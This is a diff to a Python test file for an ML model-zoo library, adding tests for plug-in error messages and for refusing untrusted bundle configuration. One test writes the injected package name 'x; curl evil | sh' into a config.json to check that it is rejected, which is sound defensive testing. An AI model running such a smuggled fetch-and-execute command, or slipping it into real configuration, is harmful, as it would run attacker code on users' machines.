@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import hashlib
 import json
+import shutil
 import sys
 import warnings
 from collections.abc import Callable, Iterator
@@ -15,6 +16,7 @@ import torch
 
 import zoo
 from zoo import ZooError, parts, plugins
+from zoo.cli import main
 from zoo.recipes import Augment, CrossEntropy, Deviation, Focal, MultiTask, Pairs, load_recipe, parse
 from zoo.recipes.schedules import Curve, MultiStep, Plateau, Step
 
@@ -212,6 +214,48 @@ def test_settings_that_no_file_can_hold_are_named(installed: Callable[..., Path]
         zoo.train(RECIPE)
 
 
+@pytest.mark.parametrize(
+    ("old", "new", "said"),
+    [
+        (
+            "slowness",
+            "layer_decay",
+            r"the setting 'layer_decay' of slow_sgd of dotted\.all has a meaning in every recipe",
+        ),
+        ("down", "name", r"the setting 'name' of stairs of dotted\.all has a meaning in every recipe"),
+        (
+            "return Split(images[:24]",
+            "return images, Split(images[:24]",
+            r"'dots' of dotted\.all gives no \(train, test\)",
+        ),
+    ],
+)
+def test_what_a_plug_in_does_wrong_is_said(installed: Callable[..., Path], old: str, new: str, said: str) -> None:
+    installed(MODULE.replace(old, new))
+    recipe = {**RECIPE, "optimizer": {"name": "slow_sgd", "lr": 0.5}, "schedule": {"name": "stairs"}}
+    with pytest.raises(ZooError, match=said):
+        zoo.train(recipe, progress=False)
+
+
+def test_a_data_set_says_which_package_it_comes_with(
+    installed: Callable[..., Path], capsys: pytest.CaptureFixture[str]
+) -> None:
+    installed()
+    assert main(["data", "list"]) == 0
+    (line,) = [line for line in capsys.readouterr().out.splitlines() if line.lstrip().startswith("dots ")]
+    assert "comes with dotted" in line
+
+
+def test_what_a_bundle_says_of_its_packages_is_not_obeyed(published: tuple[Path, Path], tmp_path: Path) -> None:
+    place = tmp_path / "dots_net.dots_v1"  # where no index vouches for its files
+    shutil.copytree(published[1] / place.name, place)
+    config = json.loads((place / "config.json").read_text())
+    config["plug_ins"][0]["package"] = "x; curl evil | sh"
+    (place / "config.json").write_text(json.dumps(config))
+    with pytest.raises(ZooError, match=r"config\.json: plug_ins is .*; publish the weight again\.$"):
+        zoo.create(place)
+
+
 def test_a_loss_with_parameters_is_a_module(tmp_path: Path) -> None:
     with plugins.temporary():
 
@@ -282,7 +326,7 @@ def test_without_the_plug_in_the_error_says_what_to_install(
     _, shelf = published
     place, said = (
         shelf / "dots_net.dots_v1",
-        r"dots_net\.dots_v1 needs the model 'dots_net' of another package; run: pip",
+        r"dots_net\.dots_v1 needs the model 'dots_net' of another package; if you trust",
     )
     monkeypatch.setattr(sys, "path", [path for path in sys.path if not path.endswith("site")])
     monkeypatch.setenv("ZOO_SOURCES", str(shelf))
@@ -301,7 +345,7 @@ def test_without_the_plug_in_the_error_says_what_to_install(
         lambda: zoo.reproduce("dots_net.dots_v1"),
     ]
     for call in calls:
-        with pytest.raises(ZooError, match=said + r" install dotted==1\.0\.$"):
+        with pytest.raises(ZooError, match=said + r" its publisher, run: pip install dotted==1\.0\.$"):
             call()
     found = zoo.verify("dots_net.dots_v1")
     assert not found.ok and "pip install dotted==1.0" in found.message
